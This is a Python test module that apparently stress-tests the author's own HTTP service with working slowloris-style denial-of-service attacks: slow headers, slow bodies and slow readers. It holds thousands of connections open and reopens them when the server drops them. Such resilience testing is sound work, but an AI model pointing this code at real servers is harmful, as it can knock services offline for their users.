"""Callers without a key who take connections and give nothing: slow headers, slow bodies, slow readers.

Each holds its connections for as long as the server lets it, and opens another one, after a pause, when one is closed.
"""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import resource
import signal
import socket
import time
from collections import Counter
from contextlib import contextmanager
from typing import TYPE_CHECKING, NamedTuple

import uvloop

if TYPE_CHECKING:
    from collections.abc import Iterator
    from multiprocessing.connection import Connection as Pipe

_CONNECT_S = 10.0
# So many connections a second are opened at most, before and after the first are closed: the attacker is to be cheap.
_MAX_OPENED_PER_S = 1000
_REOPEN_S = 5.0
_SMALLEST_BUFFER = 2048
# Of a process that must not take the cores from what is measured.
_NICENESS = 10


class ConnectionAttack(NamedTuple):
    """What is done with each connection."""

    name: str
    num_connections: int
    first: bytes
    """Sent at once."""
    more: bytes = b""
    """Sent every so often; without it, one byte of the answer is read instead."""
    every_s: float = 2.0


class Target(NamedTuple):
    """Whom it meets, and from where."""

    host: str
    port: int
    source: str
    """Address that the connections come from."""


class ConnectionResult(NamedTuple):
    """What became of an attack's connections."""

    start: float
    """Seconds of the monotonic clock."""
    seconds: float
    counts: dict[str, int]
    """``opened``, ``refused`` (none could be made), ``closed`` (by the server)."""


_HOST = b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
CONNECTION_ATTACKS = (
    ConnectionAttack("slow headers", 4300, b"GET /healthz" + _HOST, b"X-More: 1\r\n"),
    ConnectionAttack("slow readers", 2200, b"GET /assets/swagger-ui-bundle.js" + _HOST + b"\r\n"),
    ConnectionAttack(
        "slow bodies",
        2200,
        b"POST /v1/classify" + _HOST + b"Content-Type: image/jpeg\r\nContent-Length: 1000000\r\n\r\n",
        b"\xff",
    ),
)


async def hold_connections(attack: ConnectionAttack, target: Target, seconds: float) -> ConnectionResult:
    """Attack from this process."""
    start = time.monotonic()
    counts: Counter[str] = Counter()
    waits = (i / _MAX_OPENED_PER_S for i in range(attack.num_connections))
    tasks = [asyncio.create_task(_keep_one(attack, target, wait_s, counts)) for wait_s in waits]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks)
    return ConnectionResult(start, seconds, dict(counts))


async def _keep_one(attack: ConnectionAttack, target: Target, wait_s: float, counts: Counter[str]) -> None:
    await asyncio.sleep(wait_s)
    while True:
        with socket.socket() as connection:
            connection.setblocking(False)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALLEST_BUFFER)
            outcome = "refused"
            try:
                connection.bind((target.source, 0))
                await _connect(connection, target)
                counts["opened"] += 1
                outcome = "closed"
                await _hold(connection, attack)
            except OSError:  # also a connection that was not made in time
                counts[outcome] += 1
        await asyncio.sleep(_REOPEN_S)


async def _connect(connection: socket.socket, target: Target) -> None:
    async with asyncio.timeout(_CONNECT_S):
        await asyncio.get_running_loop().sock_connect(connection, (target.host, target.port))


async def _hold(connection: socket.socket, attack: ConnectionAttack) -> None:
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, attack.first)
    while True:
        await asyncio.sleep(attack.every_s)
        if attack.more:
            await loop.sock_sendall(connection, attack.more)
        elif not await loop.sock_recv(connection, 1):
            raise ConnectionResetError


class Holding:
    """An attack that runs in a process of its own."""

    def __init__(self, pipe: Pipe) -> None:
        self._pipe = pipe

    def wait(self) -> ConnectionResult:
        """What became of the connections, once the time is over."""
        result: ConnectionResult = self._pipe.recv()
        return result


@contextmanager
def holding(attack: ConnectionAttack, target: Target, seconds: float) -> Iterator[Holding]:
    """Attack from a process of its own, which ends with the context."""
    context = multiprocessing.get_context("spawn")
    ours, theirs = context.Pipe()
    process = context.Process(target=_hold_and_send, args=(attack, target, seconds, theirs), daemon=True)
    process.start()
    theirs.close()
    try:
        yield Holding(ours)
    finally:
        process.kill()
        process.join()
        ours.close()


def _hold_and_send(attack: ConnectionAttack, target: Target, seconds: float, pipe: Pipe) -> None:
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    os.nice(_NICENESS)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    pipe.send(uvloop.run(hold_connections(attack, target, seconds)))
